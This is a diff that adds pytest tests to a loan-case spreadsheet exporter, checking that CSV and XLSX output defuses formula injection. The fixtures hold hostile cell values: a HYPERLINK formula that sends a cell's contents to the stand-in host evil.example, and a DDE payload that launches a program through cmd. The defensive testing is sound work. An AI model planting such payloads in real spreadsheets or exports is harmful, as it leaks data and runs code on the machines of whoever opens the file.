@@ -10,10 +10,11 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
+from domain.enums import CaseStatus
 from storage.spreadsheet import SpreadsheetError, export_spreadsheet, flags_csv_path
 from storage.workspace import Workspace
 from tests.domain.memo_sample import FULL_ID, FULL_PHONE
-from tests.storage.export_fixtures import walked_case, workstation
+from tests.storage.export_fixtures import OFFICER, walked_case, workstation
 
 TODAY = date(2026, 11, 27)
 
@@ -102,3 +103,63 @@ def test_progress_is_told_after_each_case_is_assessed(ws: Workspace, tmp_path: P
         progress=lambda done, total: told.append((done, total)),
     )
     assert told == [(1, 2), (2, 2)]
+
+
+# Formula injection (issue 20, defect 3): borrower text that begins with = + - @
+# or a tab is written as inert text; amounts stay numbers, negative ones too.
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
+HOSTILE_OWNER = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def _hostile_case(ws: Workspace) -> str:
+    case = walked_case(ws, status=CaseStatus.DRAFT)
+    case.applicant.registered_name = HOSTILE_NAME
+    case.applicant.owner.name = HOSTILE_OWNER
+    case.business.industry = "\t=1+1"
+    case.loan.amount = Decimal("-500.25")
+    ws.store.save(case, OFFICER)
+    return case.uuid
+
+
+def test_xlsx_writes_formula_leading_text_as_string_cells_and_amounts_as_numbers(
+    ws: Workspace, tmp_path: Path
+) -> None:
+    import openpyxl
+
+    uuid = _hostile_case(ws)
+    out = tmp_path / "cases.xlsx"
+    export_spreadsheet(ws, [uuid], out, unmasked=True, today=TODAY)
+    sheet = openpyxl.load_workbook(out)["cases"]
+    header = [c.value for c in sheet[1]]
+    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
+    for column, text in (
+        ("borrower", HOSTILE_NAME),
+        ("owner", HOSTILE_OWNER),
+        ("industry", "\t=1+1"),
+    ):
+        cell = row[column]
+        assert cell.data_type == "s", column  # a string, not a formula ("f")
+        assert cell.value == text  # exactly as typed
+        assert cell.quotePrefix, column  # stays text even after the cell is edited
+    assert row["amount"].data_type == "n"
+    assert Decimal(str(row["amount"].value)) == Decimal("-500.25")
+    # no formula anywhere in the workbook
+    book = openpyxl.load_workbook(out)
+    assert not [c for s in book.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"]
+
+
+def test_csv_puts_a_quote_before_formula_leading_text_and_keeps_negative_amounts(
+    ws: Workspace, tmp_path: Path
+) -> None:
+    import csv
+
+    uuid = _hostile_case(ws)
+    out = tmp_path / "cases.csv"
+    export_spreadsheet(ws, [uuid], out, unmasked=True, today=TODAY)
+    with out.open(encoding="utf-8-sig", newline="") as fh:
+        row = next(csv.DictReader(fh))
+    assert row["borrower"] == "'" + HOSTILE_NAME
+    assert row["owner"] == "'" + HOSTILE_OWNER
+    assert row["industry"] == "'\t=1+1"
+    assert row["amount"] == "-500.25"  # a number, no quote
+    assert row["case_number"] == "3301-20261127-0001"  # ordinary text untouched
